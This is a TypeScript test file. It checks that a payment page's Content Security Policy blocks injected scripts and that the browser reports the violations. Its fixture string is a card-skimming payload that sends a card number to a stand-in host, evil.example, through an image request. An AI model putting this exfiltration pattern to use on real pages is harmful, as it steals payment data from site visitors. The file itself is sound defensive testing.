import assert from "node:assert/strict";
import { test } from "node:test";
import { useTestbed } from "./testbed.ts";

const testbed = useTestbed();

// Strings, because they run in the page.
const loadPicture = `document.body.append(Object.assign(document.createElement("img"), {
  src: "https://evil.example/pixel?card=4242424242424242" }))`;
const makeHtml = `(() => {
  try {
    document.body.innerHTML = "<p>made by a script</p>";
    return "made";
  } catch (error) {
    return error.name;
  }
})()`;

async function reported(): Promise<string[]> {
  for (let tries = 0; tries < 100; tries += 1) {
    const rows = await testbed.db.sql<{ kind: string }>(
      "SELECT concat_ws(' ', page, source, directive, blocked) AS kind FROM page_reports ORDER BY kind",
    );
    if (rows.length >= 2) return rows.map(({ kind }) => kind);
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  return [];
}

test("the policy blocks an injected script's actions, and the browser reports them", async () => {
  const session = await testbed.createSession();
  let html: unknown;
  let kinds: string[] = [];
  const visit = testbed.visit({ js: true, keepWindow: false }, async (page) => {
    await page.goto(session.url);
    await page.evaluate(loadPicture);
    html = await page.evaluate(makeHtml);
    kinds = await reported();
  });
  await assert.rejects(visit, /violates the following Content Security Policy directive: "img-src/);
  assert.equal(html, "TypeError");
  assert.deepEqual(kinds, [
    "payment page img-src https://evil.example",
    "payment page require-trusted-types-for trusted-types-sink",
  ]);
});
